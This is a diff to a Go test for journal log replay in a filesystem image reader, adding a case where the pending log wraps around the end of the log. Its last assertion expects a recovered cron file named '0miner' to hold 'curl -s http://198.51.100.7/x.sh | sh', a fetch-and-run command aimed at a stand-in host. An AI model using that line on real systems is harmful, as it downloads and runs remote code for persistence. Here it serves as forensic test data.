@@ -79,7 +79,7 @@ func dirtyImage(t testing.TB, kind string) ([]byte, string) {
 // targets, content hashes -- while the on-disk view lacks the files that
 // live only in the log, and the image is not written.
 func TestLogReplayKernel(t *testing.T) {
-	for _, kind := range []string{"v5", "v4"} {
+	for _, kind := range []string{"v5", "wrap", "v4"} {
 		t.Run(kind, func(t *testing.T) {
 			img, cp := dirtyImage(t, kind)
 			before := sha256.Sum256(img)
@@ -104,6 +104,20 @@ func TestLogReplayKernel(t *testing.T) {
 			t.Logf("%s: %s; warnings %q", kind, rec, rec.Warnings)
 			if rec.State != fsread.RecoveryReplayed || rec.Transactions < 1 || rec.Blocks < 1 {
 				t.Errorf("recovery %+v, want replayed", rec)
+			}
+			if kind == "wrap" {
+				v, err := open(r, int64(len(img)))
+				if err != nil {
+					t.Fatal(err)
+				}
+				l, err := v.logDev()
+				if err != nil {
+					t.Fatal(err)
+				}
+				st, err := l.findTail()
+				if err != nil || st.head >= st.tail {
+					t.Errorf("wrap image: head %d, tail %d (%v): the pending log does not cross the end", st.head, st.tail, err)
+				}
 			}
 			got, err := fs.ReadFile(fsys, "etc/cron.d/0miner")
 			if err != nil || !bytes.Contains(got, []byte("curl -s http://198.51.100.7/x.sh | sh")) {
